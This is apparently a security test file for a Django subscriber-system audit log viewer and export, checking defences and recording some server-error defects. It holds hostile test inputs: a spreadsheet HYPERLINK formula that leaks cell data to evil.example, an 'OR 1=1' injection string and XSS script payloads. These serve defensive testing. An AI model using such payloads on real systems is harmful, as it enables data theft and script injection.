"""Attack review of the audit viewer (/staff/audit/ and its export).

Tests marked ``# FAILS`` show a defect on the code as reviewed; the others are defences that held.
"""

import base64
import csv
import io
import json

import pytest
from django.test import Client
from openpyxl import load_workbook

from abonent.core.models import AuditEvent
from abonent.staff.permissions import ROLE_PERMISSIONS, Perm, Role
from abonent.subscribers.actions import do_add_note, do_update_subscriber

pytestmark = pytest.mark.django_db


def client_of(user) -> Client:
    client = Client(raise_request_exception=False)
    client.force_login(user)
    return client


def cursor(*keys) -> str:
    raw = json.dumps({"o": ["-created_at", "-id"], "k": list(keys)}).encode()
    return base64.urlsafe_b64encode(raw).decode().rstrip("=")


@pytest.fixture
def scene(make_subscriber, make_staff, admin, branch, other_branch):
    tver = make_subscriber(last_name="Тверской")
    klin = make_subscriber(
        last_name="Клинский",
        branch_obj=other_branch,
        phone="+79161234568",
        passport_series="2804",
        passport_number="123456",
    )
    local = make_staff(Role.OPERATOR, username="local", branches=[branch])
    do_add_note(tver, text="Звонил", acting_user=local)
    do_update_subscriber(klin, changes={"passport_number": "654321"}, acting_user=admin, reason="Новый паспорт")
    return {"tver": tver, "klin": klin, "local": local}


# --- tampered filters -----------------------------------------------------------------------------------------


@pytest.mark.parametrize(
    "params",
    [
        {"date_to": "9999-12-31"},
        {"date_from": "9999-12-31", "date_to": "9999-12-31"},
    ],
)
def test_the_last_representable_date_is_no_server_error(scene, admin, params):
    """FAILS: ``staff/audit_log.py: filtered_events`` adds a day to ``date_to`` (``date_to + timedelta(days=1)``),
    which overflows for 9999-12-31: an OverflowError and a 500 from a query string. Same on the export."""
    client = client_of(admin)
    assert client.get("/staff/audit/", params).status_code in (200, 422)
    assert client.get("/staff/audit/export/", {**params, "format": "csv"}).status_code in (200, 422)


@pytest.mark.parametrize("params", [{"date_from": "0001-01-01"}, {"date_from": "0001-01-01", "date_to": "0001-01-02"}])
def test_the_first_representable_date_is_no_server_error(scene, admin, params, settings):
    """FAILS on SQLite only: a local midnight of 1 January of year 1 east of UTC is before datetime.min in UTC;
    Django's SQLite adapter converts it to UTC and raises OverflowError (500). PostgreSQL takes it."""
    settings.TIME_ZONE = "Asia/Vladivostok"
    client = client_of(admin)
    assert client.get("/staff/audit/", params).status_code in (200, 422)


@pytest.mark.parametrize(
    "params",
    [
        {"who": "abc"},
        {"who": "-1"},
        {"who": "99999999999999999999"},
        {"who": "1 OR 1=1"},
        {"action": "<script>"},
        {"date_from": "2026-13-45"},
        {"date_from": "2026-12-10", "date_to": "2026-12-01"},
        {"subscriber": "x" * 10_000},
        {"subscriber": "%"},
        {"subscriber": "\x00"},
    ],
)
def test_tampered_filters_answer_422_not_500(scene, admin, params):
    response = client_of(admin).get("/staff/audit/", params)
    assert response.status_code == 422, (params, response.status_code)


@pytest.mark.parametrize(
    "value",
    [
        "not base64 !!",
        cursor({"t": "dt", "v": "2026-01-01T00:00:00+00:00"}, "abc"),
        cursor({"t": "dt", "v": "garbage"}, 1),
        cursor({"t": "n", "v": "1"}, 1),
        cursor({"t": "dt", "v": "2026-01-01T00:00:00+00:00"}, 10**30),
        cursor({"t": "dt", "v": "2026-01-01T00:00:00"}, 1),  # naive
        cursor({"t": "dt", "v": "0001-01-01T00:00:00+14:00"}, 1),
        cursor({"t": "dt", "v": "9999-12-31T23:59:59-14:00"}, 1),
        cursor(None, None),
        cursor([1], {"a": 1}),
    ],
)
def test_tampered_cursors_answer_a_page_not_500(scene, admin, value):
    """A tampered cursor starts the list over (or an empty page); never a 500.
    FAILS on SQLite only for the year-1 "+14:00" and year-9999 "-14:00" datetimes: ``core/listing.py:
    keyset_page`` catches ValidationError/ValueError/TypeError but not the OverflowError the UTC conversion raises
    (shared by every keyset-paged list)."""
    response = client_of(admin).get("/staff/audit/", {"cursor": value})
    assert response.status_code == 200, response.status_code


# --- branch scope and personal data ---------------------------------------------------------------------------


def test_a_branch_operator_sees_no_other_branch_event_in_the_list_or_the_export(scene):
    client = client_of(scene["local"])
    klin = scene["klin"]

    page = client.get("/staff/audit/").content.decode()
    exported = b"".join(client.get("/staff/audit/export/", {"format": "csv"}).streaming_content).decode()

    for text in (page, exported):
        assert klin.account_number not in text and "Клинский" not in text and "654321" not in text
    by_action = client.get("/staff/audit/", {"action": "subscriber.updated"}).content.decode()
    assert "654321" not in by_action
    by_account = client.get("/staff/audit/", {"subscriber": klin.account_number})
    assert by_account.status_code == 422


def test_a_branch_operator_does_not_reach_the_other_branch_through_the_who_filter(scene, admin):
    """The administrator's change of the other branch's subscriber is not shown when filtering by the admin."""
    page = client_of(scene["local"]).get("/staff/audit/", {"who": admin.pk}).content.decode()
    assert "654321" not in page and scene["klin"].account_number not in page


def test_every_role_reading_the_log_may_see_passports():
    """Held (by the role table): the viewer shows before/after values whole, passports included, so it relies on
    every role with audit.view also holding subscriber.view_personal. A role given the one without the other
    would read passports here."""
    for role, perms in ROLE_PERMISSIONS.items():
        if Perm.AUDIT_VIEW in perms:
            assert Perm.SUBSCRIBER_VIEW_PERSONAL in perms, role


@pytest.mark.parametrize("role", [Role.CASHIER, Role.SUPPORT, Role.ENGINEER])
def test_roles_without_audit_view_get_nothing(scene, make_staff, role):
    client = client_of(make_staff(role))
    assert client.get("/staff/audit/").status_code == 403
    assert client.get("/staff/audit/export/", {"format": "csv"}).status_code == 403
    assert not AuditEvent.objects.filter(action="staff.audit_exported").exists()


# --- export: formulas, XSS, audited ----------------------------------------------------------------------------


FORMULA = '=HYPERLINK("http://evil.example/?x="&A1,"click")'


@pytest.fixture
def hostile(make_subscriber, make_staff, admin, branch):
    """A subscriber, a note, a reason and a staff name that start with a formula."""
    sub = make_subscriber(last_name=FORMULA, first_name="+1+1", middle_name="")
    mallory = make_staff(Role.ADMIN, username="mallory")
    mallory.full_name = "@SUM(1+1)"
    mallory.save()
    do_add_note(sub, text=FORMULA, acting_user=mallory)
    do_update_subscriber(sub, changes={"first_name": "-2+3"}, acting_user=admin, reason=FORMULA)
    return sub


def test_the_csv_export_writes_no_cell_a_spreadsheet_runs(hostile, admin):
    content = b"".join(client_of(admin).get("/staff/audit/export/", {"format": "csv"}).streaming_content)
    rows = list(csv.reader(io.StringIO(content.decode("utf-8-sig")), delimiter=";"))
    for row in rows[1:]:
        for cell in row:
            assert cell[:1] not in ("=", "+", "-", "@"), row


def test_the_xlsx_export_writes_no_formula(hostile, admin):
    response = client_of(admin).get("/staff/audit/export/", {"format": "xlsx"})
    sheet = load_workbook(io.BytesIO(b"".join(response.streaming_content))).active
    for row in sheet.iter_rows(min_row=2):
        for cell in row:
            assert cell.data_type != "f", (cell.coordinate, cell.value)


def test_names_and_values_are_escaped_on_the_page(make_subscriber, admin):
    sub = make_subscriber(last_name="<img src=x onerror=alert(1)>")
    do_add_note(sub, text="<script>alert(2)</script>", acting_user=admin)
    page = client_of(admin).get("/staff/audit/").content.decode()
    assert "<img src=x" not in page and "<script>alert(2)" not in page


def test_the_export_is_audited_once_with_its_filters_and_a_refused_one_is_not(scene, admin):
    client = client_of(admin)
    client.get("/staff/audit/export/", {"format": "csv", "action": "subscriber.updated"})
    client.get("/staff/audit/export/", {"format": "csv", "who": "abc"})
    client.get("/staff/audit/export/", {"format": "pdf"})

    exported = AuditEvent.objects.filter(action="staff.audit_exported").get()
    assert exported.actor == admin and exported.after["filters"] == {"action": "subscriber.updated"}


def test_a_get_cannot_write_through_the_viewer(scene, admin):
    """The viewer and its export take no POST."""
    client = client_of(admin)
    before = AuditEvent.objects.count()
    response = client.post("/staff/audit/", {"who": "processes"})
    assert response.status_code in (403, 405) or AuditEvent.objects.count() == before
